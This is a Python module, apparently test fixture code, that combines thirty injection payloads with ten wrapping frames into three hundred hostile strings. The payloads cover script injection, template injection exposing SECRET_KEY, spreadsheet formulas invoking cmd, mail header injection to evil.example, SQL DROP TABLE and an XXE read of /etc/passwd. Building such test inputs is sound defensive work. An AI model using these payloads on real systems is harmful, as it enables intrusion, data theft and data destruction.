"""Three hundred texts that somebody might type so that a page, a paper or a mail does something."""

from itertools import product

# Each of the first thirty would say so, were it ever run.
_MARK = "window.ran=1"
_PAYLOADS = (
    f"<script>{_MARK}</script>",
    f"<script>parent.{_MARK}</script>",
    f"<img src=x onerror={_MARK}>",
    f"<svg onload={_MARK}>",
    f"<svg><script>{_MARK}</script></svg>",
    f"<body onload={_MARK}>",
    f"<details open ontoggle={_MARK}>",
    f"<input autofocus onfocus={_MARK}>",
    f"<video><source onerror={_MARK}></video>",
    f"<iframe srcdoc='<script>parent.{_MARK}</script>'></iframe>",
    f"<iframe src=javascript:parent.{_MARK}></iframe>",
    f"<a href=javascript:{_MARK}>อ่าน</a>",
    f"<form action=javascript:{_MARK}><button>ส่ง</button></form>",
    f"<math><mi xlink:href=javascript:{_MARK}>x</mi></math>",
    f"<object data=javascript:{_MARK}></object>",
    f"<style>*{{background:url(javascript:{_MARK})}}</style>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_MARK}'>",
    "<base href=//evil.example/>",
    "<img src=//evil.example/a.png>",
    f"{{{{constructor.constructor('{_MARK}')()}}}}",
    "{% load static %}{{ settings.SECRET_KEY }}",
    f"${{{_MARK}}}#{{{_MARK}}}",
    f"javascript:{_MARK}",
    f"data:text/html,<script>{_MARK}</script>",
    '=HYPERLINK("http://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "ข้อความ\r\nBcc: x@evil.example\r\n\r\n<b>จดหมาย</b>",
    "'; DROP TABLE reports_report; --",
)
_FRAMES = (
    ("", ""),
    ('">', ""),
    ("'>", ""),
    ("-->", "<!--"),
    ("]]>", "<![CDATA["),
    ("</textarea></title></script>", "<textarea>"),
    ("</style></template>", "<plaintext>"),
    ("\u202e", "\u202c"),
    ("\ufeff\u200b", "\u2028\u2029"),
    ("ผล\x0b<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", "&#x3c;b&#x3e;"),
)

HOSTILE: tuple[str, ...] = tuple(
    f"{before}{payload}{behind}" for payload, (before, behind) in product(_PAYLOADS, _FRAMES)
)


def fitting(longest: int | None, start: int = 0) -> str:
    """Return as many of them as fit into `longest` characters, from one on, a line each."""
    text = ""
    for number in range(len(HOSTILE)):
        more = f"{text}\n{HOSTILE[(start + number) % len(HOSTILE)]}".strip("\n")
        if longest is not None and len(more) > longest:
            break
        text = more
    return text
